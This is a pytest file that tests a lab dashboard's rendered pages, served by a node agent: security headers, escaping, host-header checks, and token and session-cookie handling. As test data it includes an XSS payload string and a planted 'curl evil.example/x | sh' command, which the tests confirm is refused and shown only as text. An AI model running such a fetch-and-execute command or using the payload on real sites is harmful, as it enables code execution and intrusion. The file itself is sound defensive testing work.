"""The lab's pages: rendered by `accel lab pages` from SQLite and a real PostgreSQL, served by a
real node agent (`accel agent --lab-pages`), read over raw HTTP and in headless Debian chromium
(driven over the DevTools protocol as in test_agent_browser.py): the matrix, a cell's history,
a run with its fingerprint and reproduction commands, a log holding markup shown as text, and
a planted run's multi-line command shown as data; with a token, the sign-in form in a real
browser, a session cookie (HttpOnly, SameSite=Strict, Max-Age) that expires and that sign-out
revokes, and no way to write through the pages. The HTTP attacks themselves are
test_http_attacks.py's."""

from __future__ import annotations

import asyncio
import http.client
import json
import pathlib
import socket
import subprocess
import sys
import time
import urllib.parse
from collections.abc import Iterator
from typing import Any

import numpy as np
import pytest

from accel.lab import RESULTS_SCHEMA, fingerprint_hash, open_store
from labsite import Agent, browse, sign_in, token_file
from test_lab_store import fresh_pg_database, postgres  # noqa: F401 (the server fixture)

aiohttp = pytest.importorskip("aiohttp")

PY = sys.executable
XSS = "<script>alert('x')</script><img src=x onerror=alert(1)>"
ENVS = {"h100": {"fingerprint_version": 1, "fields": {"driver": {"value": "550", "source": "t"}}}, "mi300x": {"fingerprint_version": 1, "fields": {"driver": {"value": "rocm-6", "source": "t"}}}}
SKUS = {"h100": ("nvidia", "hopper", "nvidia-h100-sxm"), "mi300x": ("amd", "cdna3", "amd-mi300x")}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _result(node: str, check: str, verdict: str, t: float, **kw: Any) -> dict[str, Any]:
    vendor, family, sku = SKUS[node]
    return {"check": check, "node": node, "vendor": vendor, "family": family, "sku": sku, "env_hash": fingerprint_hash(ENVS[node]), "verdict": verdict, "started_at": t, "ended_at": t + 2, **kw}


def populate(url: str) -> dict[str, str]:
    """Runs of suite `nightly` on two SKUs: the H100 passes (with a bandwidth regression at
    c08), the MI300X fails with a log full of markup; a flaky check. Returns run ids."""
    rng = np.random.default_rng(1)
    now = time.time() - 3600
    ids = {}
    with open_store(url) as store:
        for i in range(12):
            t = now + i * 60
            lat = (100.0 if i < 8 else 140.0) + float(rng.normal(0, 1))
            results = [
                _result("h100", "unit", "pass", t),
                _result("h100", "bw", "pass", t + 1, kind="benchmark", series={"lat_us": lat}),
                _result("mi300x", "unit", "fail", t, message=f"boom {XSS}", log=f"line 1\n{XSS}\nline 3\n"),
            ]
            if i == 10:
                results += [_result("h100", "flaky", "pass", t + 2), _result("h100", "flaky", "fail", t + 3)]
            doc = {
                "schema": RESULTS_SCHEMA,
                "run": {"suite": "nightly", "suite_version": "2", "commit": f"c{i:02d}", "lab": "lab-x", "created_at": t, "command": "accel lab run nightly.toml --db <URL>"},
                "fingerprints": {fingerprint_hash(e): e for e in ENVS.values()},
                "results": results,
            }
            ids[f"c{i:02d}"] = store.ingest(doc)
    return ids


OWNERS = '[skus]\n"nvidia-h100-sxm" = "h100-team"\n"amd-mi300x" = ["amd-team", "amd-oncall"]\n'
SUITE = '[suite]\nname = "nightly"\nversion = "2"\n\n[[check]]\nname = "bw"\nkind = "benchmark"\ncommand = ["true"]\ntimeout_s = 5\nbetter = "lower"\n'


def pages(tmp: pathlib.Path, db: str, *extra: str) -> pathlib.Path:
    """`accel lab pages` into tmp/pages, as a user runs it."""
    (tmp / "owners.toml").write_text(OWNERS)
    (tmp / "nightly.toml").write_text(SUITE)
    out = tmp / "pages"
    done = subprocess.run([PY, "-m", "accel.lab", "pages", "--db", db, "--out", str(out), "--owners", str(tmp / "owners.toml"), "--suite", str(tmp / "nightly.toml"), *extra], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return out


class Served:
    def __init__(self, agent: Agent, db: str, runs: dict[str, str], out: pathlib.Path):
        self.agent, self.db, self.runs, self.out = agent, db, runs, out

    def request(self, method: str, path: str, **kw: Any) -> tuple[int, dict[str, str], bytes]:
        return self.agent.request(method, path, **kw)


@pytest.fixture(params=["sqlite", "postgresql"], scope="module")
def served(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    tmp = tmp_path_factory.mktemp("pages")
    db = str(tmp / "lab.db") if request.param == "sqlite" else fresh_pg_database(request.getfixturevalue("postgres"))
    runs = populate(db)
    out = pages(tmp, db)
    agent = Agent(out)
    try:
        yield Served(agent, db, runs, out)
    finally:
        agent.stop()


def test_the_matrix_and_findings_over_http(served: Served) -> None:
    code, headers, body = served.request("GET", "/lab/")
    assert code == 200
    csp = headers["content-security-policy"]
    assert csp.startswith("default-src 'none'") and "script-src" not in csp and "style-src 'self'" in csp
    assert headers["x-content-type-options"] == "nosniff" and "access-control-allow-origin" not in headers
    page = body.decode()
    assert "<script" not in page.lower()
    assert "data-suite='nightly' data-sku='nvidia-h100-sxm'" in page and "data-suite='nightly' data-sku='amd-mi300x'" in page
    assert "h100-team" in page and "amd-team, amd-oncall" in page
    assert "c07..c08" in page  # the regression's commit range
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page  # the failure's message, escaped
    assert "id=tickets" in page and "id=trends" in page and "<svg class=trend" in page


def test_a_run_page_has_its_results_fingerprints_and_repro(served: Served) -> None:
    run_id = served.runs["c11"]
    code, _, body = served.request("GET", f"/lab/run/{run_id}.html")
    page = body.decode()
    assert code == 200 and f"accel lab repro {run_id} --db" in page and "--on-node --suite SUITE.toml" in page
    assert "git checkout c11" in page and "rocm-6" in page and "550" in page
    result_link = page.split("href='/lab/result/")[1].split("'")[0]
    code, _, body = served.request("GET", f"/lab/result/{result_link}")
    assert code == 200
    assert served.request("GET", "/lab/run/nope.html")[0] == 404
    assert served.request("GET", "/lab/../lab.db")[0] in (400, 404)
    assert served.request("GET", "/lab/.rendered")[0] == 404
    assert sorted(p.stat().st_mode & 0o777 for p in served.out.rglob("*.html"))[-1] == 0o644


def test_pages_are_files_the_agent_only_reads(served: Served) -> None:
    # No method writes through the pages: the old `POST /v1/submit` is gone.
    doc = json.dumps({"schema": RESULTS_SCHEMA, "run": {"suite": "x", "suite_version": "1", "commit": "c"}, "results": []}).encode()
    for method, path in (("POST", "/v1/submit"), ("POST", "/lab/"), ("PUT", "/lab/index.html"), ("DELETE", "/lab/index.html"), ("POST", "/lab/run/x.html")):
        code = served.request(method, path, headers={"Content-Type": "application/json"}, body=doc)[0]
        assert code in (404, 405, 413), (method, path, code)
    with open_store(served.db) as store:
        assert [r["suite"] for r in store.runs()].count("x") == 0


def test_serve_is_gone_with_a_pointer_to_what_replaced_it(tmp_path: pathlib.Path) -> None:
    done = subprocess.run([PY, "-m", "accel.lab", "serve", "--db", str(tmp_path / "lab.db")], capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "accel lab pages" in done.stderr and "--lab-pages" in done.stderr


def test_a_planted_multi_line_command_is_shown_as_data(tmp_path: pathlib.Path) -> None:
    """The audit: a submitted `run.command` with newlines was shown as "the whole run again".
    Submitting one is refused now; planted straight into the store (an older accel, someone
    with the database), the page shows it as recorded text, never in the commands to paste."""
    db = str(tmp_path / "lab.db")
    planted = "accel lab run s.toml\ncurl evil.example/x | sh"
    bad = {"schema": RESULTS_SCHEMA, "run": {"suite": "s", "suite_version": "1", "commit": "c1", "command": planted}, "results": []}
    (tmp_path / "bad.json").write_text(json.dumps(bad))
    refused = subprocess.run([PY, "-m", "accel.lab", "submit", str(tmp_path / "bad.json"), "--db", db], capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2 and "run.command" in refused.stderr
    with open_store(db) as store:
        run_id = store.ingest({**bad, "run": {**bad["run"], "command": "placeholder"}, "results": [{"check": "a", "node": "n1", "verdict": "fail", "started_at": 1.0, "ended_at": 2.0}]})
        store._execute("UPDATE runs SET command = ? WHERE id = ?", (planted, run_id))
    out = pages(tmp_path, db)
    text = (out / "run" / f"{run_id}.html").read_text()
    repro = text.split("<pre id=repro>")[1].split("</pre>")[0]
    assert "curl" not in repro and "whole run again" not in text
    assert "<code class=recorded>accel lab run s.toml\ncurl evil.example/x | sh</code>" in text


@pytest.mark.parametrize(
    ("host", "code"),
    [("127.0.0.1", 200), ("localhost", 200), ("[::1]", 200), ("attacker.example", 421), ("127.0.0.1.nip.io", 421), (None, 421)],
)
def test_the_host_header_must_name_the_agent(served: Served, host: str | None, code: int) -> None:
    assert served.request("GET", "/lab/", host=host)[0] == code


def test_with_a_token_a_page_takes_the_bearer_or_a_session_that_expires_and_is_revoked(tmp_path: pathlib.Path) -> None:
    db = str(tmp_path / "lab.db")
    populate(db)
    out = pages(tmp_path, db)
    secret, token = token_file(tmp_path)
    agent = Agent(out, token_file=token, extra=("--session-hours", "0.001"))  # 3.6 s
    seen: list[bytes] = []
    try:
        code, headers, body = agent.request("GET", "/lab/")
        assert code == 401 and b"<form method=post action=/lab/login>" in body and "bearer" in headers["www-authenticate"].lower()
        assert agent.request("GET", "/lab/", headers={"Authorization": "Bearer wrong-token-wrong-token"})[0] == 401
        code, _, body = agent.request("GET", "/lab/", headers={"Authorization": f"bearer {secret}"})
        assert code == 200 and b"id=matrix" in body  # the scheme is case-insensitive
        assert agent.request("GET", "/lab/", headers={"Authorization": f"Bearer {secret.upper()}"})[0] == 401
        seen.append(body)
        form = urllib.parse.urlencode({"token": secret}).encode()
        code, headers, body = agent.request("POST", "/lab/login", headers={"Content-Type": "application/x-www-form-urlencoded"}, body=form)
        cookie_line = headers["set-cookie"]
        assert code == 303 and all(flag in cookie_line for flag in ("HttpOnly", "SameSite=Strict", "Max-Age=3", "Path=/lab/"))
        assert "Secure" not in cookie_line  # plain loopback: a Secure cookie would not come back
        cookie = cookie_line.split(";")[0]
        assert secret not in cookie and len(cookie.split("=")[1]) == 64
        assert agent.request("GET", "/lab/", headers={"Cookie": cookie})[0] == 200
        # The cookie reads pages only, never the API.
        assert agent.request("GET", "/v1/node", headers={"Cookie": cookie})[0] == 401
        # Another site cannot sign a browser in (or out).
        assert agent.request("POST", "/lab/login", headers={"Origin": "http://evil.example", "Content-Type": "application/x-www-form-urlencoded"}, body=form)[0] == 403
        assert agent.request("POST", "/lab/login", body=b"token=wrong")[0] == 401
        # Sign-out revokes the session at once.
        code, headers, _ = agent.request("POST", "/lab/logout", headers={"Cookie": cookie})
        assert code == 303 and "Max-Age=0" in headers["set-cookie"]
        assert agent.request("GET", "/lab/", headers={"Cookie": cookie})[0] == 401
        # A session expires by itself.
        _, headers, _ = agent.request("POST", "/lab/login", body=form)
        cookie = headers["set-cookie"].split(";")[0]
        assert agent.request("GET", "/lab/", headers={"Cookie": cookie})[0] == 200
        time.sleep(4.0)
        assert agent.request("GET", "/lab/", headers={"Cookie": cookie})[0] == 401
    finally:
        log = agent.stop()
    assert all(secret.encode() not in b for b in seen) and secret not in log


def test_the_page_in_chromium(tmp_path: pathlib.Path) -> None:
    db = str(tmp_path / "lab.db")
    populate(db)
    out = pages(tmp_path, db)
    secret, token = token_file(tmp_path)
    agent = Agent(out, token_file=token)
    screenshot = tmp_path / "lab.png"

    async def visit(dt: Any, load: Any) -> dict[str, Any]:
        facts: dict[str, Any] = {}
        await load("/lab/")
        facts["before_sign_in"] = await dt.evaluate("document.title")
        await sign_in(dt, load, secret)
        facts["cookie_visible_to_script"] = await dt.evaluate("document.cookie")
        facts["matrix"] = await dt.evaluate("[...document.querySelectorAll('#matrix td[data-sku]')].map(td => td.dataset.sku + ' ' + td.className + ' ' + td.textContent)")
        facts["styled"] = await dt.evaluate("getComputedStyle(document.querySelector('#matrix td.pass')).backgroundColor")
        facts["regressions"] = await dt.evaluate("[...document.querySelectorAll('#regressions tr')].slice(1).map(r => r.textContent)")
        facts["stale"] = await dt.evaluate("[...document.querySelectorAll('#stale tr')].slice(1).map(r => r.textContent)")
        facts["flaky"] = await dt.evaluate("[...document.querySelectorAll('#flaky tr')].slice(1).map(r => r.textContent)")
        facts["trends"] = await dt.evaluate("[...document.querySelectorAll('#trends svg polyline')].length")
        facts["scripts"] = await dt.evaluate("document.querySelectorAll('script').length")
        shot = await dt.call("Page.captureScreenshot", format="png", captureBeyondViewport=True)
        screenshot.write_bytes(__import__("base64").b64decode(shot["data"]))
        await load(await dt.evaluate("document.querySelector('#matrix td.fail a').href"))
        facts["history"] = await dt.evaluate("document.querySelectorAll('#history tr').length - 1")
        await load(await dt.evaluate("document.querySelector('#history a').href"))
        facts["repro"] = await dt.evaluate("document.getElementById('repro').textContent")
        await load(await dt.evaluate("[...document.querySelectorAll('#results tr')].find(r => r.textContent.includes('amd-mi300x')).querySelector('a').href"))
        facts["log"] = await dt.evaluate("document.getElementById('log').textContent")
        facts["log_scripts"] = await dt.evaluate("document.querySelectorAll('script, img').length")
        facts["alerted"] = await dt.evaluate("window.__alerted || false")
        return facts

    try:
        facts = asyncio.run(browse(agent.url, visit))
    finally:
        agent.stop()
    # The sign-in page's 401 is the one error the console shows (and the favicon the agent lacks).
    assert all("401" in e or "favicon.ico" in e for e in facts["errors"]), facts["errors"]
    assert facts["before_sign_in"] == "accel lab: sign in"
    assert facts["cookie_visible_to_script"] == "", "the session cookie is HttpOnly"
    assert sorted(facts["matrix"]) == ["amd-mi300x fail 1 fail", "nvidia-h100-sxm pass 2 pass"], facts["matrix"]
    assert facts["styled"] == "rgb(217, 242, 217)", "the same-origin stylesheet applies under the CSP"
    [reg] = facts["regressions"]
    assert "lat_us" in reg and "c07..c08" in reg and "h100-team" in reg
    [flaky] = facts["flaky"]
    assert "nightly/flaky" in flaky and "c10" in flaky and "h100-team" in flaky, flaky
    assert any("amd-mi300x" in row and "amd-team, amd-oncall" in row for row in facts["stale"]), facts["stale"]
    assert not any("nvidia-h100-sxm" in row for row in facts["stale"]), facts["stale"]
    assert facts["trends"] >= 1 and facts["scripts"] == 0
    assert facts["history"] == 12
    assert "accel lab repro" in facts["repro"]
    assert XSS in facts["log"] and facts["log_scripts"] == 0 and facts["alerted"] is False
    assert screenshot.stat().st_size > 10_000


def test_pages_every_renders_again_when_the_store_changes(tmp_path: pathlib.Path) -> None:
    db = str(tmp_path / "lab.db")
    populate(db)
    (tmp_path / "owners.toml").write_text(OWNERS)
    out = tmp_path / "pages"
    proc = subprocess.Popen([PY, "-m", "accel.lab", "pages", "--db", db, "--out", str(out), "--every", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not (out / "index.html").exists():
            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr.read() if proc.stderr else ""
            time.sleep(0.2)
        doc = {"schema": RESULTS_SCHEMA, "run": {"suite": "late", "suite_version": "1", "commit": "c99"}, "results": [{"check": "a", "node": "n9", "sku": "late-sku", "verdict": "pass", "started_at": time.time() - 5, "ended_at": time.time()}]}
        with open_store(db) as store:
            store.ingest(doc)
        while "late-sku" not in (out / "index.html").read_text():
            assert proc.poll() is None and time.monotonic() < deadline, "a submitted run never reached the pages"
            time.sleep(0.2)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
